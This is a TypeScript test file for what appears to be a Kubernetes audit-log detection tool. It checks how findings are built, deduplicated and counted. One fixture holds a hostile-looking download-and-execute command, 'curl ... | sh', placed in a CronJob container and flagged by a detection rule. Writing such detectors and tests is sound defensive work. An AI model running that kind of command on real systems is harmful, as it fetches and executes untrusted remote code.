import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import {
  activityOf,
  auditEvent,
  cronJob,
  detector,
  manifestOf,
  signalOf,
} from '../../test/support/signals.ts';
import type { JsonObject } from '../model/json.ts';
import type { Signal } from '../model/signal.ts';
import type { Collector } from './collector.ts';
import { createCollector } from './collector.ts';

const now = '2026-11-24T00:00:00Z';
const collector = (): Collector => createCollector({ now });

function take(target: Collector, changes: JsonObject = {}, signal: Partial<Signal> = {}) {
  const activity = activityOf(auditEvent(changes));
  return target.take(signalOf(activity, signal), activity);
}

describe('a finding', () => {
  test('has the shape of the contract', () => {
    const finding = take(collector());
    assert.match(finding?.id ?? '', /^[0-9a-f]{16}$/);
    assert.deepEqual(
      { ...finding, id: '' },
      {
        type: 'finding',
        id: '',
        time: '2026-11-23T04:37:14.000001Z',
        title: 'Downloads a script and pipes it into a shell',
        severity: 'high',
        detector: { type: 'cel', id: 'rule-download', title: 'Downloads a script and pipes it into a shell' },
        attack: [{ technique: 'T1053.007', tactics: ['execution', 'persistence'] }],
        workload: {
          cluster: '',
          group: 'batch',
          kind: 'CronJob',
          namespace: 'data',
          name: 'nightly-report',
          uid: 'uid-1',
        },
        actor: {
          user: 'dev@corp.example',
          effectiveUser: 'dev@corp.example',
          groups: ['developers', 'system:authenticated'],
          userAgent: 'kubectl/v1.37.2 (linux/amd64) kubernetes/0000000',
          sourceIPs: ['198.51.100.7'],
          pod: null,
        },
        action: { verb: 'create', subresource: '', outcome: 'allowed' },
        reasons: ['the command of container report downloads and runs: curl -s https://files.example/r | sh'],
        evidence: [
          {
            source: 'audit-file',
            file: 'audit.log',
            line: 12,
            auditID: 'b3f9a8e2-0000-4000-8000-000000000001',
            time: '2026-11-23T04:37:14.000001Z',
          },
        ],
        visibility: { level: 'RequestResponse', missing: [] },
      },
    );
  });

  test('names the pod behind a bound token, with the namespace of its account', () => {
    const user = {
      username: 'system:serviceaccount:shop:web',
      groups: ['system:serviceaccounts'],
      extra: { 'authentication.kubernetes.io/pod-name': ['web-5d9c-x2'] },
    };
    assert.equal(take(collector(), { user })?.actor?.pod, 'shop/web-5d9c-x2');
  });

  test('names both users under impersonation', () => {
    const actor = take(collector(), {
      impersonatedUser: { username: 'admin', groups: ['system:masters'] },
    })?.actor;
    assert.deepEqual([actor?.user, actor?.effectiveUser], ['dev@corp.example', 'admin']);
  });

  test('is about the object that the detector names, if it names one', () => {
    const workload = { cluster: 'c', group: '', kind: 'Secret', namespace: 'n', name: 's', uid: '' };
    assert.deepEqual(take(collector(), {}, { workload })?.workload, workload);
  });

  test('about a manifest has neither time nor actor and is only proposed', () => {
    const activity = manifestOf(cronJob);
    const finding = collector().take(signalOf(activity), activity);
    assert.equal(finding?.time, null);
    assert.equal(finding?.actor, null);
    assert.deepEqual(finding?.action, { verb: 'create', subresource: '', outcome: 'proposed' });
    assert.deepEqual(finding?.visibility, { level: 'manifest', missing: [] });
  });

  for (const time of [
    'yesterday',
    '2026-02-30T00:00:00Z',
    '2026-11-23 04:37:14Z',
    '2026-11-23T24:00:00Z',
    '',
  ]) {
    test(`does not pass on "${time}" as a time`, () => {
      const evidence = [{ source: 's', file: 'f', line: 1, auditID: '', time }];
      const changes = { requestReceivedTimestamp: time, stageTimestamp: time };
      const finding = take(collector(), changes, { evidence });
      assert.equal(finding?.time, null);
      assert.equal(finding?.evidence[0]?.time, null);
    });
  }

  test('of a signal with its own activity is about that activity', () => {
    const own = activityOf(auditEvent({ user: { username: 'mallory' }, auditID: 'other' }), 3);
    const inspected = activityOf(auditEvent());
    const finding = collector().take({ ...signalOf(inspected), activity: own }, inspected);
    assert.equal(finding?.actor?.user, 'mallory');
  });

  test('can be made without any activity', () => {
    const signal = signalOf(activityOf(auditEvent()));
    const finding = collector().take(signal);
    assert.equal(finding?.visibility.level, 'unknown');
    assert.equal(finding?.actor, null);
  });
});

describe('visibility', () => {
  const table: readonly (readonly [
    name: string,
    changes: JsonObject,
    level: string,
    missing: readonly string[],
  ])[] = [
    [
      'a write at Metadata has no bodies',
      { level: 'Metadata', requestObject: undefined, responseObject: undefined },
      'Metadata',
      ['requestObject', 'responseObject'],
    ],
    [
      'a generated name is unknown at Metadata',
      {
        level: 'Metadata',
        requestObject: undefined,
        responseObject: undefined,
        objectRef: { resource: 'pods', namespace: 'data', apiVersion: 'v1' },
      },
      'Metadata',
      ['requestObject', 'responseObject', 'objectRef.name'],
    ],
    [
      'a generated name is unknown at Request',
      {
        level: 'Request',
        requestObject: { kind: 'Pod', apiVersion: 'v1', metadata: { generateName: 'x-' } },
        responseObject: undefined,
        objectRef: { resource: 'pods', namespace: 'data', apiVersion: 'v1' },
      },
      'Request',
      ['objectRef.name'],
    ],
    [
      'a patch at Request hides what it was merged into',
      { level: 'Request', verb: 'patch', requestObject: { spec: {} }, responseObject: undefined },
      'Request',
      ['responseObject'],
    ],
    [
      'truncated bodies are unknown, not absent',
      {
        requestObject: undefined,
        responseObject: undefined,
        annotations: { 'audit.k8s.io/truncated': 'true' },
      },
      'RequestResponse',
      ['requestObject', 'responseObject'],
    ],
    [
      'a read needs no body',
      { level: 'Metadata', verb: 'list', requestObject: undefined, responseObject: undefined },
      'Metadata',
      [],
    ],
    [
      'exec has no body',
      {
        level: 'Metadata',
        requestObject: undefined,
        responseObject: undefined,
        objectRef: { resource: 'pods', subresource: 'exec', namespace: 'data', name: 'p', apiVersion: 'v1' },
      },
      'Metadata',
      [],
    ],
    ['an unknown level is unknown', { level: 'Everything' }, 'unknown', []],
  ];
  for (const [name, changes, level, missing] of table) {
    test(name, () => {
      assert.deepEqual(take(collector(), changes)?.visibility, { level, missing });
    });
  }

  test('keeps what the detector missed, once', () => {
    const changes = { level: 'Metadata', requestObject: undefined, responseObject: undefined };
    const missing = take(collector(), changes, { missing: ['requestObject', 'user.extra'] })?.visibility
      .missing;
    assert.deepEqual(missing, ['requestObject', 'user.extra', 'responseObject']);
  });
});

describe('one request, one finding', () => {
  /** What RequestReceived cannot know yet: name, code, bodies, the impersonated user. */
  const received: JsonObject = {
    stage: 'RequestReceived',
    objectRef: { resource: 'cronjobs', namespace: 'data', apiGroup: 'batch', apiVersion: 'v1' },
    responseStatus: undefined,
    requestObject: undefined,
    responseObject: undefined,
    stageTimestamp: '2026-11-23T04:37:14.000001Z',
  };

  test('the same input gives the same id', () => {
    assert.equal(take(collector())?.id, take(collector())?.id);
  });

  test('at two stages', () => {
    const target = collector();
    const first = take(target, received);
    assert.equal(take(target), undefined);
    assert.equal(first?.id, take(collector())?.id);
    assert.equal(target.counts().duplicates, 1);
    assert.equal(target.counts().findings, 1);
  });

  test('under impersonation, which only the later stage shows', () => {
    const target = collector();
    take(target, received);
    assert.equal(take(target, { impersonatedUser: { username: 'admin' } }), undefined);
  });

  test('delivered twice', () => {
    const target = collector();
    take(target);
    assert.equal(take(target), undefined);
  });

  const others: readonly (readonly [name: string, changes: JsonObject])[] = [
    ['auditID', { auditID: 'another' }],
    ['time of arrival', { requestReceivedTimestamp: '2026-11-23T04:37:14.000002Z' }],
    ['user', { user: { username: 'mallory' } }],
    ['verb', { verb: 'update' }],
    ['URI', { requestURI: '/apis/batch/v1/namespaces/data/cronjobs?fieldManager=x' }],
    [
      'namespace',
      { objectRef: { resource: 'cronjobs', namespace: 'other', name: 'nightly-report', apiGroup: 'batch' } },
    ],
  ];
  for (const [name, changes] of others) {
    test(`a request with another ${name} is another request, whatever Audit-ID the client chose`, () => {
      const target = collector();
      take(target);
      assert.notEqual(take(target, changes), undefined);
    });
  }

  test('another rule or cluster is another finding', () => {
    const target = collector();
    take(target);
    assert.notEqual(take(target, {}, { detector: detector('other') }), undefined);
    const elsewhere = { ...activityOf(auditEvent()), cluster: 'west' };
    assert.notEqual(target.take(signalOf(elsewhere), elsewhere), undefined);
  });

  test('a second request cannot hide behind a reused Audit-ID that arrived in the same microsecond', () => {
    const target = collector();
    const first = take(target);
    const second = take(target, { stageTimestamp: '2026-11-23T04:37:14.012399Z' });
    assert.notEqual(second, undefined);
    assert.notEqual(second?.id, first?.id);
    assert.equal(take(target, { stageTimestamp: '2026-11-23T04:37:14.012399Z' }), undefined);
  });

  test('events without an audit id are told apart by all that they say', () => {
    const target = collector();
    take(target, { auditID: undefined });
    assert.equal(take(target, { auditID: undefined }), undefined);
    assert.notEqual(
      take(target, { auditID: undefined, responseObject: { kind: 'CronJob', metadata: { name: 'b' } } }),
      undefined,
    );
  });

  test('a manifest is known by its file and content, in whatever order its keys are', () => {
    const target = collector();
    const { kind, apiVersion, metadata, spec } = cronJob;
    const one = manifestOf({ kind, apiVersion, metadata, spec });
    assert.notEqual(target.take(signalOf(one), one), undefined);
    const reordered = manifestOf({ spec, metadata, apiVersion, kind }, 'cron.yaml', 40);
    assert.equal(target.take(signalOf(reordered), reordered), undefined);
    const changed = manifestOf({ kind, apiVersion, metadata, spec: { ...spec, schedule: '@daily' } });
    assert.notEqual(target.take(signalOf(changed), changed), undefined);
    const elsewhere = manifestOf({ kind, apiVersion, metadata, spec }, 'other.yaml');
    assert.notEqual(target.take(signalOf(elsewhere), elsewhere), undefined);
  });

  test('the memory is bounded: what is far back is reported again rather than lost', () => {
    const target = createCollector({ now, memory: 1 });
    take(target);
    take(target, { auditID: 'b' });
    take(target, { auditID: 'c' });
    assert.notEqual(take(target), undefined);
    assert.equal(take(target, { auditID: 'c' }), undefined);
  });
});

test('counts findings by severity, every severity named', () => {
  const target = collector();
  take(target);
  take(target, {}, { detector: detector('b'), severity: 'low' });
  take(target, {}, { detector: detector('c'), severity: 'low' });
  assert.deepEqual(target.counts().bySeverity, { informational: 0, low: 2, medium: 0, high: 1, critical: 0 });
});
